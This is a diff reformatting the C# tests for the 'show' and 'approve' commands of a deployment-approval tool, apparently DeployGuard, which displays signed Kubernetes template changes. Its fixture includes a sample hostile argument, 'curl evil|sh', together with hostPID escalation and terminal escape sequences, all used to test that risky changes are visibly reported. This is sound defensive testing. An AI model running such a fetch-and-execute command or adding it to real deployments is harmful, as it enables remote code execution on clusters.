@@ -5,10 +5,14 @@ using System.Text.Json.Nodes;
 
 namespace DeployGuard.Cli.Tests;
 
-/// <summary><c>deployguard show</c>, and what <c>approve</c> shows before the confirmation: everything that is signed, or a clear note that it is incomplete.</summary>
+/// <summary>
+/// <c>deployguard show</c>, and what <c>approve</c> shows before the confirmation: everything that is signed, or a clear note that it is
+/// incomplete.
+/// </summary>
 public class ShowTests
 {
-    private const string Before = """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json"],"name":"web"}]}}""";
+    private const string Before =
+        """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json"],"name":"web"}]}}""";
     private const string After =
         """{"spec":{"containers":[{"args":["--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh"],"name":"web"}],"hostPID":true}}""";
 
@@ -34,15 +38,20 @@ public class ShowTests
         var run = await RunAsync(command);
 
         Assert.That((run.ExitCode, run.Error), Is.EqualTo((0, "")));
-        Assert.That(run.Output, Does.Contain($"""
-            Differences from revision {HashOf(Before)}, which ran when the change was requested at 2026-11-27 06:00:00Z: 2 fields
-            Access to the node
-              + spec.hostPID: true
-            Command and arguments
-              ~ spec.containers[web].args
-                  - * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json
-                  + * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh
-            """));
+        Assert.That(
+            run.Output,
+            Does.Contain(
+                $"""
+                Differences from revision {HashOf(Before)}, which ran when the change was requested at 2026-11-27 06:00:00Z: 2 fields
+                Access to the node
+                  + spec.hostPID: true
+                Command and arguments
+                  ~ spec.containers[web].args
+                      - * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json
+                      + * --config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json --then=curl evil|sh
+                """
+            )
+        );
         Assert.That(run.Output, Does.Not.Contain("INCOMPLETE"));
     }
 
@@ -51,7 +60,10 @@ public class ShowTests
     {
         Server.Template = Template(Side(After), null);
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The complete template, because nothing ran before it: 3 fields").And.Contain("  + spec.containers[web].name: web"));
+        Assert.That(
+            (await RunAsync("show")).Output,
+            Does.Contain("The complete template, because nothing ran before it: 3 fields").And.Contain("  + spec.containers[web].name: web")
+        );
     }
 
     [Test]
@@ -60,7 +72,10 @@ public class ShowTests
         Server.Template = Template(Side(After), null);
         Server.Template["spec"]!["beforeIsUnknown"] = true;
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The complete template, because the revision before it is not on record"));
+        Assert.That(
+            (await RunAsync("show")).Output,
+            Does.Contain("The complete template, because the revision before it is not on record")
+        );
     }
 
     [Test]
@@ -70,10 +85,15 @@ public class ShowTests
         after["leftOut"] = Pack("""{"annotations":{"kubectl.kubernetes.io/restartedAt":"\u001b[2Jnow"}}""");
         Server.Template = Template(after, Side(Before));
 
-        Assert.That((await RunAsync("show")).Output, Does.EndWith("""
-            Not signed (the hash leaves it out, and it may change without a new approval)
-              + annotations[kubectl.kubernetes.io/restartedAt]: <ESC>[2Jnow
-            """));
+        Assert.That(
+            (await RunAsync("show")).Output,
+            Does.EndWith(
+                """
+                Not signed (the hash leaves it out, and it may change without a new approval)
+                  + annotations[kubectl.kubernetes.io/restartedAt]: <ESC>[2Jnow
+                """
+            )
+        );
     }
 
     [Test]
@@ -85,9 +105,14 @@ public class ShowTests
         var run = await RunAsync("show");
 
         Assert.That(run.ExitCode, Is.EqualTo(1));
-        Assert.That(run.Output, Does.Contain("INCOMPLETE: the template cannot be shown in full. An approval signs all of it, also what is missing here.")
-            .And.Contain("  spec.hostPID: (absent) -> true<ESC>[2K")
-            .And.EndWith($"ask the requester to apply the change again, then run: kubectl deployguard show {RecordsServer.Change} -n shop"));
+        Assert.That(
+            run.Output,
+            Does.Contain("INCOMPLETE: the template cannot be shown in full. An approval signs all of it, also what is missing here.")
+                .And.Contain("  spec.hostPID: (absent) -> true<ESC>[2K")
+                .And.EndWith(
+                    $"ask the requester to apply the change again, then run: kubectl deployguard show {RecordsServer.Change} -n shop"
+                )
+        );
     }
 
     [Test]
@@ -95,15 +120,29 @@ public class ShowTests
     {
         Server.ShowsTemplates = false;
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("You may not read the complete template: changetemplates.deployguard.io is forbidden"));
+        Assert.That(
+            (await RunAsync("show")).Output,
+            Does.Contain("You may not read the complete template: changetemplates.deployguard.io is forbidden")
+        );
     }
 
     [Test]
     public async Task ATemplateThatIsTooLargeIsReportedAsSuch()
     {
-        Server.Template = Template(new JsonObject { ["templateHash"] = HashOf(After), ["bytes"] = 900 * 1024, ["tooLarge"] = true }, null);
+        Server.Template = Template(
+            new JsonObject
+            {
+                ["templateHash"] = HashOf(After),
+                ["bytes"] = 900 * 1024,
+                ["tooLarge"] = true,
+            },
+            null
+        );
 
-        Assert.That((await RunAsync("approve")).Output, Does.Contain("The template is too large to record (900 KiB), so it cannot be shown."));
+        Assert.That(
+            (await RunAsync("approve")).Output,
+            Does.Contain("The template is too large to record (900 KiB), so it cannot be shown.")
+        );
     }
 
     [Test]
@@ -111,7 +150,10 @@ public class ShowTests
     {
         Server.Hash = HashOf("{}");
 
-        Assert.That((await RunAsync("show")).Output, Does.Contain("The ChangeTemplate on record is of another revision.").And.Not.Contain("hostPID"));
+        Assert.That(
+            (await RunAsync("show")).Output,
+            Does.Contain("The ChangeTemplate on record is of another revision.").And.Not.Contain("hostPID")
+        );
     }
 
     [Test]
@@ -124,7 +166,8 @@ public class ShowTests
         Assert.That((await RunAsync("show")).Output, Does.Contain("The template on record does not match the hash of this Change."));
     }
 
-    private Task<CommandRun> RunAsync(string command) => Server.RunAsync([command, RecordsServer.Change, .. command == "approve" ? (string[])["--yes"] : []]);
+    private Task<CommandRun> RunAsync(string command) =>
+        Server.RunAsync([command, RecordsServer.Change, .. command == "approve" ? (string[])["--yes"] : []]);
 
     private static JsonObject Template(JsonObject after, JsonObject? before)
     {
@@ -134,10 +177,20 @@ public class ShowTests
             spec["before"] = before;
         }
 
-        return new JsonObject { ["metadata"] = new JsonObject { ["name"] = RecordsServer.Change }, ["spec"] = spec };
+        return new JsonObject
+        {
+            ["metadata"] = new JsonObject { ["name"] = RecordsServer.Change },
+            ["spec"] = spec,
+        };
     }
 
-    private static JsonObject Side(string json) => new() { ["templateHash"] = HashOf(json), ["bytes"] = json.Length, ["template"] = Pack(json) };
+    private static JsonObject Side(string json) =>
+        new()
+        {
+            ["templateHash"] = HashOf(json),
+            ["bytes"] = json.Length,
+            ["template"] = Pack(json),
+        };
 
     private static string Pack(string text)
     {
